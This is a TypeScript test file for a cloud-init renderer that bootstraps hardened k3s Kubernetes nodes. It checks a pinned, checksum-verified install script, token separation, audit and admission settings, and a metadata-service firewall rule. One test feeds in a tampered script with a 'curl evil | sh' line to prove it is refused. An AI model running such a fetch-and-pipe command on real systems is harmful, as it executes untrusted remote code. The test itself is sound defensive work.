import { describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import {
  bootstrapChartPath,
  K3S_BOOTSTRAP_PATH,
  K3S_CONFIG_PATH,
  K3S_INSTALL_SCRIPT_PATH,
  K3S_MANIFESTS_DIR,
  LONGHORN_MODULES_PATH,
  renderBootstrapHelmChart,
  renderK3sCloudInit,
  type BootstrapHelmChart,
  type K3sCloudInitOptions,
} from '../../../constructs/vps/cloud-init';
import {
  ADMISSION_CONFIG_PATH,
  AUDIT_LOG_DIR,
  AUDIT_POLICY_PATH,
  KUBE_APISERVER_ARGS,
  KUBE_CONTROLLER_MANAGER_ARGS,
  KUBELET_ARGS,
  KUBELET_SYSCTL_PATH,
  KUBELET_SYSCTLS,
  METADATA_FENCE_UNIT_PATH,
} from '../../../constructs/vps/hardening';

const INSTALL_SCRIPT = {
  url: 'https://raw.githubusercontent.com/k3s-io/k3s/019b0afdd830e36f5e4b7a5b237e6a4339e6a6be/install.sh',
  sha256: '68ae766b4c4fd2c8032f712cdd346c8f9d1ae60eaeb4736a1155effda44ea23d',
};

const BASE: K3sCloudInitOptions = {
  role: 'server',
  nodeName: 'n1',
  k3sVersion: 'v1.34.1+k3s1',
  token: 'abc123',
  agentToken: 'agent456',
  installScript: INSTALL_SCRIPT,
  clusterInit: false,
  podCidr: '10.42.0.0/16',
  serviceCidr: '10.43.0.0/16',
  flannelBackend: 'vxlan',
  nodeLabels: [],
  addressDiscovery: { privateIpv4: 'echo 10.0.1.5', publicIpv4: 'echo 198.51.100.7' },
};

describe('renderK3sCloudInit', () => {
  it('renders a cloud-config that writes a private k3s config and a bootstrap script', () => {
    const userData = renderK3sCloudInit(BASE);
    const cloudConfig = parseYaml(userData) as Record<string, any>;
    const files = cloudConfig.write_files as Record<string, string>[];
    const [config] = files;
    const script = files.find((f) => f.path === K3S_BOOTSTRAP_PATH);
    expect(config).toMatchObject({ path: '/etc/rancher/k3s/config.yaml', permissions: '0600', owner: 'root:root' });
    expect(parseYaml(config!.content)).toEqual({
      token: 'abc123',
      'agent-token': 'agent456',
      'cluster-cidr': '10.42.0.0/16',
      'service-cidr': '10.43.0.0/16',
      disable: ['traefik', 'servicelb'],
      'flannel-backend': 'vxlan',
      'secrets-encryption': true,
      'write-kubeconfig-mode': '0600',
      'kube-apiserver-arg': [...KUBE_APISERVER_ARGS],
      'kube-controller-manager-arg': [...KUBE_CONTROLLER_MANAGER_ARGS],
      'protect-kernel-defaults': true,
      'kubelet-arg': [...KUBELET_ARGS],
    });
    expect(script).toMatchObject({ path: '/usr/local/sbin/k3s-bootstrap', permissions: '0700' });
    expect(script!.content).toContain('private_ip=$(echo 10.0.1.5)');
    expect(script!.content).toContain('public_ip=$(echo 198.51.100.7)');
    expect(script!.content).toContain("k3s_version='v1.34.1+k3s1'");
    expect(cloudConfig.runcmd).toEqual([['/usr/local/sbin/k3s-bootstrap']]);
  });

  it('lets an agent join with the agent token, and skips the server-only settings', () => {
    const userData = renderK3sCloudInit({ ...BASE, role: 'agent', token: 'agent456', agentToken: undefined, podSecurityExemptions: undefined, joinUrl: 'https://10.0.1.10:6443', nodeLabels: ['a=b'] });
    const files = parseYaml(userData).write_files as Record<string, string>[];
    const config = parseYaml(files[0]!.content);
    expect(config).toEqual({ token: 'agent456', server: 'https://10.0.1.10:6443', 'protect-kernel-defaults': true, 'kubelet-arg': [...KUBELET_ARGS], 'node-label': ['a=b'] });
    expect(userData).not.toContain('public_ip');
    expect(userData).toContain('INSTALL_K3S_EXEC=agent');
    // The server token and the API server's files stay on the servers.
    expect(userData).not.toContain('abc123');
    expect(userData).not.toContain('agent-token');
    expect(files.map((f) => f.path)).not.toContain(ADMISSION_CONFIG_PATH);
    expect(files.map((f) => f.path)).not.toContain(AUDIT_POLICY_PATH);
  });

  it('the bootstrap script is valid POSIX sh', async () => {
    const { spawnSync } = await import('node:child_process');
    const script = (parseYaml(renderK3sCloudInit(BASE)).write_files as Record<string, string>[]).find((f) => f.path === K3S_BOOTSTRAP_PATH)!.content;
    const check = spawnSync('sh', ['-n'], { input: script, encoding: 'utf8' });
    expect(check.stderr).toBe('');
    expect(check.status).toBe(0);
  });

  it('refuses inconsistent roles and Terraform template sequences', () => {
    expect(() => renderK3sCloudInit({ ...BASE, role: 'agent' })).toThrow(/needs a joinUrl/);
    expect(() => renderK3sCloudInit({ ...BASE, clusterInit: true, joinUrl: 'https://10.0.1.10:6443' })).toThrow(/joins nobody/);
    expect(() => renderK3sCloudInit({ ...BASE, addressDiscovery: { privateIpv4: 'echo ${x}', publicIpv4: 'true' } })).toThrow(/template sequence/);
    expect(() => renderK3sCloudInit({ ...BASE, nodeLabels: ['a=%{b}'] })).toThrow(/template sequence/);
  });

  it('refuses a server without the agent token, an agent with one, and one token for both', () => {
    expect(() => renderK3sCloudInit({ ...BASE, agentToken: undefined })).toThrow(/needs the agent token/);
    expect(() => renderK3sCloudInit({ ...BASE, role: 'agent', joinUrl: 'https://10.0.1.10:6443' })).toThrow(/takes no agent-token/);
    expect(() => renderK3sCloudInit({ ...BASE, agentToken: 'abc123' })).toThrow(/must differ from the server token/);
    expect(() => renderK3sCloudInit({ ...BASE, role: 'agent', agentToken: undefined, joinUrl: 'https://10.0.1.10:6443', podSecurityExemptions: ['x'] })).toThrow(/server setting/);
  });
});

describe('renderK3sCloudInit: the pinned, checked install script', () => {
  const script = (options: K3sCloudInitOptions) =>
    (parseYaml(renderK3sCloudInit(options)).write_files as Record<string, string>[]).find((f) => f.path === K3S_BOOTSTRAP_PATH)!.content;

  it('downloads the script from its pinned ref, runs it only after sha256sum -c passes, with the pinned release', () => {
    const text = script(BASE);
    expect(text).not.toContain('get.k3s.io');
    const download = text.indexOf(`curl -sfL --retry 10 --retry-connrefused '${INSTALL_SCRIPT.url}' -o ${K3S_INSTALL_SCRIPT_PATH}`);
    const verify = text.indexOf(`if ! echo '${INSTALL_SCRIPT.sha256}  ${K3S_INSTALL_SCRIPT_PATH}' | sha256sum -c -; then`);
    const run = text.indexOf(`INSTALL_K3S_VERSION="$k3s_version" INSTALL_K3S_EXEC=server sh ${K3S_INSTALL_SCRIPT_PATH}`);
    expect(download).toBeGreaterThan(0);
    expect(verify).toBeGreaterThan(download);
    expect(run).toBeGreaterThan(verify);
    // The only other execution of the downloaded file would be a pipe into sh: none.
    expect(text).not.toMatch(/\| *sh\b/);
    expect(text.slice(verify, run)).toMatch(/exit 1\nfi\n/);
  });

  it('a script whose sha256 does not match stops the node before it runs, loudly; a matching one runs', async () => {
    const { spawnSync } = await import('node:child_process');
    const { createHash } = await import('node:crypto');
    const { mkdtempSync, writeFileSync } = await import('node:fs');
    const { join } = await import('node:path');
    const { tmpdir } = await import('node:os');
    // The lines from the download to the run, with the download replaced by a local file and the
    // run by a marker: exactly the check the node performs.
    const dir = mkdtempSync(join(tmpdir(), 'k3s-install-'));
    const body = 'echo installing\n';
    const good = createHash('sha256').update(body).digest('hex');
    const run = (recorded: string, served: string) => {
      const text = script({ ...BASE, installScript: { ...INSTALL_SCRIPT, sha256: recorded } });
      const from = text.indexOf('curl -sfL');
      const to = text.indexOf('INSTALL_K3S_VERSION=');
      const path = join(dir, 'install.sh');
      writeFileSync(path, served);
      const snippet = ['set -eu', text.slice(text.indexOf('\n', from) + 1, to).replaceAll(K3S_INSTALL_SCRIPT_PATH, path), 'echo RAN'].join('\n');
      return spawnSync('sh', ['-c', snippet], { encoding: 'utf8' });
    };
    const ok = run(good, body);
    expect(ok.status).toBe(0);
    expect(ok.stdout).toContain('RAN');
    const tampered = run(good, 'curl evil | sh\n');
    expect(tampered.status).toBe(1);
    expect(tampered.stdout).not.toContain('RAN');
    expect(tampered.stderr).toContain('does not match the sha256 recorded in config/k3s-installers.yaml; not running it');
  });

  it('refuses a script from anywhere but k3s-io/k3s on raw.githubusercontent.com, or a malformed sha256', () => {
    expect(() => renderK3sCloudInit({ ...BASE, installScript: { ...INSTALL_SCRIPT, url: 'https://get.k3s.io' } })).toThrow(/raw.githubusercontent.com\/k3s-io\/k3s/);
    expect(() => renderK3sCloudInit({ ...BASE, installScript: { ...INSTALL_SCRIPT, sha256: 'ABC' } })).toThrow(/64 lower-case hex/);
  });
});

describe('renderK3sCloudInit: CIS hardening and the metadata fence', () => {
  type Json = Record<string, any>;
  const read = (options: K3sCloudInitOptions) => {
    const files = parseYaml(renderK3sCloudInit(options)).write_files as Json[];
    const file = (path: string) => files.find((f) => f.path === path);
    return { files, file, script: file(K3S_BOOTSTRAP_PATH)!.content as string, config: parseYaml(file(K3S_CONFIG_PATH)!.content) as Json };
  };
  const AGENT: K3sCloudInitOptions = { ...BASE, role: 'agent', token: 'agent456', agentToken: undefined, joinUrl: 'https://10.0.1.10:6443' };

  it('every node: protect-kernel-defaults with the kernel parameters kubelet checks, loaded before k3s is installed', () => {
    for (const options of [BASE, AGENT]) {
      const { file, script, config } = read(options);
      expect(config['protect-kernel-defaults']).toBe(true);
      expect(file(KUBELET_SYSCTL_PATH)).toMatchObject({ permissions: '0644', content: 'vm.panic_on_oom=0\nvm.overcommit_memory=1\nkernel.panic=10\nkernel.panic_on_oops=1\nkernel.keys.root_maxkeys=1000000\nkernel.keys.root_maxbytes=25000000\n' });
      expect(Object.keys(KUBELET_SYSCTLS)).toEqual(['vm.panic_on_oom', 'vm.overcommit_memory', 'kernel.panic', 'kernel.panic_on_oops', 'kernel.keys.root_maxkeys', 'kernel.keys.root_maxbytes']);
      const load = script.indexOf(`sysctl -p ${KUBELET_SYSCTL_PATH}`);
      expect(load).toBeGreaterThan(0);
      expect(load).toBeLessThan(script.indexOf('INSTALL_K3S_VERSION='));
      expect(config['kubelet-arg']).toEqual(expect.arrayContaining(['streaming-connection-idle-timeout=5m', 'make-iptables-util-chains=true', 'event-qps=50', 'pod-max-pids=4096']));
      expect((config['kubelet-arg'] as string[]).find((a) => a.startsWith('tls-cipher-suites='))).toMatch(/^tls-cipher-suites=(TLS_ECDHE_(ECDSA|RSA)_WITH_(AES_(128|256)_GCM_SHA(256|384)|CHACHA20_POLY1305),?){6}$/);
    }
  });

  it('servers: secrets encryption, audit log with policy and rotation, admission configuration, the guide\'s API server and controller manager arguments', () => {
    const { file, script, config } = read(BASE);
    expect(config['secrets-encryption']).toBe(true);
    expect(config['kube-apiserver-arg']).toEqual([
      'enable-admission-plugins=NodeRestriction,EventRateLimit',
      'admission-control-config-file=/var/lib/rancher/k3s/server/psa.yaml',
      'audit-log-path=/var/lib/rancher/k3s/server/logs/audit.log',
      'audit-policy-file=/var/lib/rancher/k3s/server/audit.yaml',
      'audit-log-maxage=30',
      'audit-log-maxbackup=10',
      'audit-log-maxsize=100',
      'service-account-extend-token-expiration=false',
    ]);
    expect(config['kube-controller-manager-arg']).toEqual(['terminated-pod-gc-threshold=100']);
    const audit = parseYaml(file(AUDIT_POLICY_PATH)!.content) as Json;
    expect(file(AUDIT_POLICY_PATH)!.permissions).toBe('0600');
    expect(audit).toMatchObject({ apiVersion: 'audit.k8s.io/v1', kind: 'Policy', omitStages: ['RequestReceived'] });
    // Never Request or RequestResponse: bodies of Secrets and tokens stay out of the log.
    expect((audit.rules as Json[]).map((r) => r.level)).toEqual(['None', 'None', 'None', 'Metadata']);
    expect((audit.rules as Json[]).at(-1)).toEqual({ level: 'Metadata' });
    const mkdir = script.indexOf(`mkdir -p -m 700 ${AUDIT_LOG_DIR}`);
    expect(mkdir).toBeGreaterThan(0);
    expect(mkdir).toBeLessThan(script.indexOf('INSTALL_K3S_VERSION='));
    expect(read(AGENT).script).not.toContain(AUDIT_LOG_DIR);
  });

  it('servers: Pod Security restricted by default, kube-system and the given namespaces exempt; EventRateLimit configured', () => {
    const { file } = read({ ...BASE, podSecurityExemptions: ['longhorn-system', 'cilium'] });
    expect(file(ADMISSION_CONFIG_PATH)!.permissions).toBe('0600');
    const admission = parseYaml(file(ADMISSION_CONFIG_PATH)!.content) as Json;
    expect(admission).toMatchObject({ apiVersion: 'apiserver.config.k8s.io/v1', kind: 'AdmissionConfiguration' });
    const [podSecurity, eventRateLimit] = admission.plugins as Json[];
    expect(podSecurity!.name).toBe('PodSecurity');
    expect(podSecurity!.configuration).toEqual({
      apiVersion: 'pod-security.admission.config.k8s.io/v1',
      kind: 'PodSecurityConfiguration',
      defaults: { enforce: 'restricted', 'enforce-version': 'latest', audit: 'restricted', 'audit-version': 'latest', warn: 'restricted', 'warn-version': 'latest' },
      exemptions: { usernames: [], runtimeClasses: [], namespaces: ['cilium', 'kube-system', 'longhorn-system'] },
    });
    expect(eventRateLimit!.name).toBe('EventRateLimit');
    expect(eventRateLimit!.configuration.limits.map((l: Json) => l.type)).toEqual(['Server', 'Namespace']);
    // Without exemptions: kube-system only.
    expect((parseYaml(read(BASE).file(ADMISSION_CONFIG_PATH)!.content) as Json).plugins[0].configuration.exemptions.namespaces).toEqual(['kube-system']);
    expect(() => renderK3sCloudInit({ ...BASE, podSecurityExemptions: ['Not A Namespace'] })).toThrow(/not a namespace name/);
  });

  it('every node drops pod traffic to the metadata service, at every boot and checked before k3s is installed', () => {
    for (const options of [BASE, AGENT, { ...BASE, cni: 'cilium' as const, podCidr: '10.244.0.0/16' }]) {
      const { file, script } = read(options);
      const rule = `PREROUTING -s ${options.podCidr} -d 169.254.169.254/32 -j DROP`;
      const unit = file(METADATA_FENCE_UNIT_PATH)!;
      expect(unit.permissions).toBe('0644');
      expect(unit.content).toContain(`ExecStart=/bin/sh -c 'iptables -t raw -C ${rule} 2>/dev/null || iptables -t raw -I ${rule}'`);
      expect(unit.content).toContain('Before=k3s.service k3s-agent.service');
      expect(unit.content).toContain('WantedBy=multi-user.target');
      const enable = script.indexOf('systemctl enable --now k3s-metadata-fence.service');
      const check = script.indexOf(`iptables -t raw -C ${rule}\n`);
      expect(enable).toBeGreaterThan(0);
      expect(check).toBeGreaterThan(enable);
      expect(check).toBeLessThan(script.indexOf('INSTALL_K3S_VERSION='));
    }
  });
});

describe('renderK3sCloudInit with Cilium and Longhorn', () => {
  type Json = Record<string, any>;
  const CHART: BootstrapHelmChart = {
    releaseName: 'cilium',
    namespace: 'cilium',
    repository: 'https://helm.cilium.io/',
    chart: 'cilium',
    version: '1.18.3',
    values: { kubeProxyReplacement: false, policyCIDRMatchMode: ['nodes'], hubble: { enabled: true } },
  };
  const read = (userData: string) => {
    const cloudConfig = parseYaml(userData) as Json;
    const files = cloudConfig.write_files as Json[];
    const file = (path: string) => files.find((f) => f.path === path);
    return {
      cloudConfig,
      files,
      config: parseYaml(file(K3S_CONFIG_PATH)!.content as string) as Json,
      script: file(K3S_BOOTSTRAP_PATH)!.content as string,
      manifests: files.filter((f) => (f.path as string).startsWith(`${K3S_MANIFESTS_DIR}/`)),
    };
  };

  it('flannel (the default) keeps flannel and k3s network policy, writes no manifest and installs no packages', () => {
    const { cloudConfig, config, script, manifests } = read(renderK3sCloudInit(BASE));
    expect(config['flannel-backend']).toBe('vxlan');
    expect(config['disable-network-policy']).toBeUndefined();
    expect(script).toContain('flannel-iface: "$iface"');
    expect(script).not.toContain('helmcharts.helm.cattle.io/unmanaged');
    expect(manifests).toEqual([]);
    expect(cloudConfig.packages).toBeUndefined();
    expect(cloudConfig.package_update).toBeUndefined();
  });

  it('cilium: servers start without flannel and without the network policy controller; nobody sets flannel-iface', () => {
    const server = read(renderK3sCloudInit({ ...BASE, cni: 'cilium', joinUrl: 'https://10.0.1.10:6443' }));
    expect(server.config['flannel-backend']).toBe('none');
    expect(server.config['disable-network-policy']).toBe(true);
    expect(server.script).not.toContain('flannel-iface');
    expect(server.script).toMatch(/node-ip: "\$private_ip"\ntls-san:/);
    // Only the first server installs the chart.
    expect(server.manifests).toEqual([]);
    const agent = read(renderK3sCloudInit({ ...BASE, role: 'agent', token: 'agent456', agentToken: undefined, cni: 'cilium', joinUrl: 'https://10.0.1.10:6443' }));
    expect(agent.config).toEqual({ token: 'agent456', server: 'https://10.0.1.10:6443', 'protect-kernel-defaults': true, 'kubelet-arg': [...KUBELET_ARGS] });
    expect(agent.script).not.toContain('flannel-iface');
  });

  it('cilium: the first server writes a bootstrap HelmChart for the release Flux adopts, with the pinned version and values', () => {
    const { manifests, files } = read(renderK3sCloudInit({ ...BASE, cni: 'cilium', cniChart: CHART }));
    expect(manifests.map((f) => f.path)).toEqual([bootstrapChartPath(CHART)]);
    expect(bootstrapChartPath(CHART)).toBe('/var/lib/rancher/k3s/server/manifests/cilium-bootstrap.yaml');
    expect(manifests[0]).toMatchObject({ owner: 'root:root', permissions: '0600' });
    // Written before the script runs: k3s applies it as soon as the server starts.
    expect(files.findIndex((f) => f.path === bootstrapChartPath(CHART))).toBeLessThan(files.findIndex((f) => f.path === K3S_BOOTSTRAP_PATH));
    const chart = parseYaml(manifests[0]!.content as string) as Json;
    expect(chart).toEqual({
      apiVersion: 'helm.cattle.io/v1',
      kind: 'HelmChart',
      metadata: { name: 'cilium', namespace: 'kube-system' },
      spec: {
        repo: 'https://helm.cilium.io/',
        chart: 'cilium',
        version: CHART.version,
        targetNamespace: 'cilium',
        createNamespace: true,
        bootstrap: true,
        valuesContent: expect.any(String),
      },
    });
    expect(parseYaml(chart.spec.valuesContent as string)).toEqual(CHART.values);
  });

  it('cilium: after installing k3s the first server waits for the install Job, then marks the HelmChart unmanaged', () => {
    const { script } = read(renderK3sCloudInit({ ...BASE, cni: 'cilium', cniChart: CHART }));
    const install = script.indexOf('INSTALL_K3S_EXEC=server sh /root/k3s-install.sh');
    const wait = script.indexOf("get job helm-install-cilium -o 'jsonpath={.status.succeeded}'");
    const annotate = script.indexOf('k3s kubectl -n kube-system annotate --overwrite helmchart cilium helmcharts.helm.cattle.io/unmanaged=true');
    expect(install).toBeGreaterThan(0);
    expect(wait).toBeGreaterThan(install);
    expect(annotate).toBeGreaterThan(wait);
    expect(script.trimEnd().endsWith('helmcharts.helm.cattle.io/unmanaged=true')).toBe(true);
  });

  it('the bootstrap script with the hand-over is valid POSIX sh', async () => {
    const { spawnSync } = await import('node:child_process');
    const { script } = read(renderK3sCloudInit({ ...BASE, cni: 'cilium', cniChart: CHART, longhorn: true }));
    const check = spawnSync('sh', ['-n'], { input: script, encoding: 'utf8' });
    expect(check.stderr).toBe('');
    expect(check.status).toBe(0);
  });

  it('longhorn: installs open-iscsi and nfs-common, enables iscsid and loads iscsi_tcp before k3s starts', () => {
    for (const role of ['server', 'agent'] as const) {
      const joinUrl = role === 'agent' ? 'https://10.0.1.10:6443' : undefined;
      const tokens = role === 'agent' ? { token: 'agent456', agentToken: undefined } : {};
      const { cloudConfig, files } = read(renderK3sCloudInit({ ...BASE, ...tokens, role, joinUrl, longhorn: true }));
      expect(cloudConfig.package_update).toBe(true);
      expect(cloudConfig.packages).toEqual(['open-iscsi', 'nfs-common']);
      expect(cloudConfig.runcmd).toEqual([['systemctl', 'enable', '--now', 'iscsid'], ['modprobe', 'iscsi_tcp'], [K3S_BOOTSTRAP_PATH]]);
      expect(files.find((f) => f.path === LONGHORN_MODULES_PATH)).toMatchObject({ content: 'iscsi_tcp\n', permissions: '0644' });
    }
    const without = read(renderK3sCloudInit(BASE));
    expect(without.cloudConfig.runcmd).toEqual([[K3S_BOOTSTRAP_PATH]]);
    expect(without.files.some((f) => f.path === LONGHORN_MODULES_PATH)).toBe(false);
    expect(renderK3sCloudInit(BASE)).not.toMatch(/iscsi|nfs-common/);
  });

  it('refuses a CNI chart without cilium, or on any node but the first server', () => {
    expect(() => renderK3sCloudInit({ ...BASE, cniChart: CHART })).toThrow(/only with cni 'cilium'/);
    expect(() => renderK3sCloudInit({ ...BASE, cni: 'cilium', cniChart: CHART, joinUrl: 'https://10.0.1.10:6443' })).toThrow(/only the first server/);
    expect(() => renderK3sCloudInit({ ...BASE, role: 'agent', token: 'agent456', agentToken: undefined, cni: 'cilium', cniChart: CHART, joinUrl: 'https://10.0.1.10:6443' })).toThrow(/only the first server/);
  });

  it('renderBootstrapHelmChart keeps the release name, namespace and version of the chart it is given', () => {
    const chart = parseYaml(renderBootstrapHelmChart({ ...CHART, releaseName: 'cni', namespace: 'net', version: '9.9.9' })) as Json;
    expect(chart.metadata).toEqual({ name: 'cni', namespace: 'kube-system' });
    expect(chart.spec).toMatchObject({ targetNamespace: 'net', version: '9.9.9' });
  });
});
